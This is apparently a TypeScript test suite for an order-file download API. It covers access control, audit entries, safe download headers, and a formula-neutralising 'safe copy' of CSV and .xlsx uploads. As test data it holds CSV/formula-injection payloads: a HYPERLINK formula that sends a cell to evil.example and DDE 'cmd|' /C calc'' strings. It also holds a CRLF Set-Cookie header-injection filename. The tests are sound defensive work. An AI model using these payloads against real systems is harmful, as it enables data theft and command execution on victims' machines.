/**
 * GET /api/v1/order/{id}/files/{fileId}/download/: the owner (any status)
 * and order staff get the stored bytes with download headers; anyone else
 * the 404 of a missing file, guests 401.
 */
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'

import type { OrderFile, User } from '@prisma/client'
import ExcelJS from 'exceljs'
import { callV1, type Json } from 'testing/rest/testClient'
import { currentUserFixture } from 'testing/testUsers'

import { db } from 'src/lib/db'
import { SAFE_COPY_MIME } from 'src/lib/orderFiles/safeCopy'
import { storeOrderFile, removeStoredFile } from 'src/lib/orderFiles/storage'

import type { StandardScenario } from './orderFileDownload.scenarios'

beforeAll(() => {
  process.env.ORDER_FILES_ROOT = fs.mkdtempSync(path.join(os.tmpdir(), 'order-files-dl-'))
})
afterAll(() => fs.rmSync(process.env.ORDER_FILES_ROOT!, { recursive: true, force: true }))

type Who = User | 'guest' | { staff: 'manager' | 'admin'; user: User }

async function download(who: Who, orderId: number, fileId: number, route = 'download') {
  if (who === 'guest') mockCurrentUser(null)
  else if ('staff' in who) {
    mockCurrentUser(currentUserFixture({ id: who.user.id, email: who.user.email, role: who.staff }))
  } else mockCurrentUser(currentUserFixture({ id: who.id, email: who.email, role: who.role }))
  const answer = await callV1(`/order/${orderId}/files/${fileId}/${route}/`, {
    asCurrentUser: who !== 'guest',
  })
  return { ...answer, body: answer.body as Json }
}

const bytesOf = (answer: { text: string }) => Buffer.from(answer.text, 'base64')

/** A stored file of an order, recorded as the upload would (the bytes need not be a spreadsheet here). */
async function storedFile(
  orderId: number,
  fileName: string,
  bytes: Buffer,
  kind: 'csv' | 'xlsx' = 'csv'
): Promise<OrderFile> {
  const storedPath = await storeOrderFile(orderId, bytes, kind)
  return db.orderFile.create({
    data: {
      orderId,
      fileName,
      storedPath,
      mimeType: kind === 'csv' ? 'text/csv' : SAFE_COPY_MIME,
      kind,
      size: bytes.length,
      sha256: 'x',
      rowCount: 1,
    },
  })
}

const NOT_FOUND = { status: 404, body: { detail: 'Файл не найден.' } }

describe('order file download over /api/v1', () => {
  scenario(
    'the owner gets the bytes with download headers, on a placed order too',
    async (s: StandardScenario) => {
      const bytes = Buffer.from('Артикул;Количество\r\nNS-100;2\r\n', 'utf8')
      const file = await storedFile(s.order.placed.id, 'заказ.csv', bytes)

      const answer = await download(s.user.aigerim, s.order.placed.id, file.id)
      expect(answer.status).toBe(200)
      expect(bytesOf(answer).equals(bytes)).toBe(true)
      expect(answer.headers).toEqual({
        'Content-Type': 'text/csv',
        'Content-Disposition': `attachment; filename="_____.csv"; filename*=UTF-8''%D0%B7%D0%B0%D0%BA%D0%B0%D0%B7.csv`,
        'Content-Length': String(bytes.length),
        'X-Content-Type-Options': 'nosniff',
        'Cache-Control': 'private, no-store',
      })
    }
  )

  describe('the safe copy staff open by default', () => {
    const HOSTILE = [
      '=HYPERLINK("https://evil.example/?d="&A1,"Скидка 50%")',
      "=cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+7 701 234 56 78',
      '-2+3',
    ]

    /** The cells of a downloaded workbook's first sheet, as text. */
    async function cellsOf(bytes: Buffer) {
      const book = new ExcelJS.Workbook()
      await book.xlsx.load(bytes as unknown as ArrayBuffer)
      const rows: unknown[][] = []
      const formats = new Set<string | undefined>()
      book.worksheets[0].eachRow((row, index) => {
        rows.push((row.values as unknown[]).slice(1))
        if (index > 1) row.eachCell((cell) => formats.add(cell.numFmt))
      })
      return {
        rows,
        /** The number formats of the data cells: Text («@») only. */
        formats: [...formats],
        formulas: book.worksheets[0]
          .getSheetValues()
          .flat()
          .filter((v) => v && typeof v === 'object' && 'formula' in v),
      }
    }

    scenario(
      'a CSV with formulas comes neutralised; the original only by its own route',
      async (s: StandardScenario) => {
        const csv = Buffer.from(
          [
            'Артикул;Количество;Комментарий',
            ...HOSTILE.map((text, i) => `NS-${i};1;${text.replace(/;/g, ',')}`),
          ].join('\r\n'),
          'utf8'
        )
        const file = await storedFile(s.order.placed.id, 'заказ.csv', csv)
        const manager = { staff: 'manager' as const, user: s.user.daniyar }
        const safe = await download(manager, s.order.placed.id, file.id, 'safe-copy')
        expect(safe.status).toBe(200)
        expect(safe.headers).toMatchObject({
          'Content-Type': SAFE_COPY_MIME,
          'X-Content-Type-Options': 'nosniff',
          'Cache-Control': 'private, no-store',
        })
        expect(decodeURIComponent(String(safe.headers['Content-Disposition']).split("''")[1])).toBe(
          'заказ (безопасная копия).xlsx'
        )
        const { rows, formulas, formats } = await cellsOf(bytesOf(safe))
        expect(formulas).toEqual([])
        const comments = rows.slice(2).map((row) => row[3])
        // Every cell is text in Excel's Text format: shown as typed — no apostrophe, no
        // invisible mark before a phone (issue 30 §4) — and never run, even when edited.
        expect(comments).toEqual(HOSTILE.map((text) => text.replace(/;/g, ',')))
        expect(formats).toEqual(['@'])
        for (const row of rows) for (const cell of row) expect(typeof cell).toBe('string')
        expect(rows[1]).toEqual(['1', 'Артикул', 'Количество', 'Комментарий'])

        // The original bytes, formulas and all, only by …/download/.
        const original = await download(manager, s.order.placed.id, file.id)
        expect(bytesOf(original).equals(csv)).toBe(true)
        expect(bytesOf(safe).equals(csv)).toBe(false)
      }
    )

    scenario(
      'an .xlsx with formula cells comes as their values, never formulas',
      async (s: StandardScenario) => {
        const book = new ExcelJS.Workbook()
        book.addWorksheet('Заказ').addRows([
          ['Артикул', 'Количество', 'Ссылка'],
          [
            'NS-100',
            2,
            { formula: 'HYPERLINK("https://evil.example","Открыть")', result: 'Открыть' },
          ],
          [
            'F-7',
            { formula: '1+1', result: 2 },
            { formula: "cmd|' /C calc'!A0", result: "=cmd|' /C calc'!A0" },
          ],
        ])
        const bytes = Buffer.from(await book.xlsx.writeBuffer())
        const file = await storedFile(s.order.placed.id, 'заказ.xlsx', bytes, 'xlsx')
        const safe = await download(
          { staff: 'admin', user: s.user.daniyar },
          s.order.placed.id,
          file.id,
          'safe-copy'
        )
        expect(safe.status).toBe(200)
        const { rows, formulas, formats } = await cellsOf(bytesOf(safe))
        expect(formulas).toEqual([])
        expect(formats).toEqual(['@'])
        expect(rows.slice(1)).toEqual([
          ['1', 'Артикул', 'Количество', 'Ссылка'],
          ['2', 'NS-100', '2', 'Открыть'],
          ['3', 'F-7', '2', "=cmd|' /C calc'!A0"],
        ])
        // Same access as the original: another customer hears 404, a guest 401.
        const other = await download(s.user.daniyar, s.order.placed.id, file.id, 'safe-copy')
        expect({ status: other.status, body: other.body }).toEqual(NOT_FOUND)
        expect((await download('guest', s.order.placed.id, file.id, 'safe-copy')).status).toBe(401)
      }
    )
  })

  scenario(
    "order staff get a placed order's file, never a draft's",
    async (s: StandardScenario) => {
      const bytes = Buffer.from('F-7;1\n')
      const placed = await storedFile(s.order.placed.id, 'placed.csv', bytes)
      const draft = await storedFile(s.order.danDraft.id, 'dan.csv', bytes)
      for (const staff of ['manager', 'admin'] as const) {
        const answer = await download({ staff, user: s.user.aigerim }, s.order.placed.id, placed.id)
        expect(answer.status).toBe(200)
        expect(bytesOf(answer).equals(bytes)).toBe(true)
        // A draft is the shopper's own (issue 28 §4): staff hear a missing file.
        const refused = await download(
          { staff, user: s.user.aigerim },
          s.order.danDraft.id,
          draft.id
        )
        expect({ status: refused.status, body: refused.body }).toEqual(NOT_FOUND)
      }
      // Staff's own draft stays theirs to read.
      const own = await download(
        { staff: 'manager', user: s.user.daniyar },
        s.order.danDraft.id,
        draft.id
      )
      expect(own.status).toBe(200)
    }
  )

  scenario(
    'a staff read of a customer’s file is audited, the owner’s is not',
    async (s: StandardScenario) => {
      const file = await storedFile(s.order.placed.id, 'заказ.csv', Buffer.from('F-7;1\n'))
      expect((await download(s.user.aigerim, s.order.placed.id, file.id)).status).toBe(200)
      expect(await db.auditEntry.count()).toBe(0)
      const staff = { staff: 'manager' as const, user: s.user.daniyar }
      expect((await download(staff, s.order.placed.id, file.id)).status).toBe(200)
      expect(await db.auditEntry.findMany()).toEqual([
        expect.objectContaining({
          actorId: s.user.daniyar.id,
          action: 'orderFile.download',
          entityId: String(s.order.placed.id),
          after: expect.objectContaining({
            customerId: s.user.aigerim.id,
            fileId: file.id,
            fileName: 'заказ.csv',
          }),
        }),
      ])
    }
  )

  scenario('others hear a missing file; guests 401', async (s: StandardScenario) => {
    const file = await storedFile(s.order.draft.id, 'a.csv', Buffer.from('F-7;1\n'))
    const other = await download(s.user.daniyar, s.order.draft.id, file.id)
    expect({ status: other.status, body: other.body }).toEqual(NOT_FOUND)

    const guest = await download('guest', s.order.draft.id, file.id)
    expect(guest.status).toBe(401)

    // A file of another order under this order's id, and no such file at all.
    const dans = await storedFile(s.order.danDraft.id, 'd.csv', Buffer.from('F-7;1\n'))
    const crossed = await download(s.user.aigerim, s.order.draft.id, dans.id)
    expect({ status: crossed.status, body: crossed.body }).toEqual(NOT_FOUND)
    const staffCrossed = await download(
      { staff: 'manager', user: s.user.daniyar },
      s.order.draft.id,
      dans.id
    )
    expect({ status: staffCrossed.status, body: staffCrossed.body }).toEqual(NOT_FOUND)
    const none = await download(s.user.aigerim, s.order.draft.id, dans.id + 1000)
    expect({ status: none.status, body: none.body }).toEqual(NOT_FOUND)

    // The record is there, the bytes are gone from the store.
    await removeStoredFile(file.storedPath)
    const gone = await download(s.user.aigerim, s.order.draft.id, file.id)
    expect({ status: gone.status, body: gone.body }).toEqual(NOT_FOUND)
  })

  scenario(
    'a name with quotes, newlines and Cyrillic stays one safe header',
    async (s: StandardScenario) => {
      const name = 'Счёт "№1"\r\nSet-Cookie: x=1;.csv'
      const file = await storedFile(s.order.draft.id, name, Buffer.from('F-7;1\n'))
      const answer = await download(s.user.aigerim, s.order.draft.id, file.id)
      expect(answer.status).toBe(200)
      const header = String(answer.headers['Content-Disposition'])
      expect(header).not.toMatch(/[\r\n]/)
      expect(header).toMatch(
        /^attachment; filename="[\x20-\x21\x23-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%._~-]+$/
      )
      expect(decodeURIComponent(/filename\*=UTF-8''(.*)$/.exec(header)![1])).toBe(name)
    }
  )
})
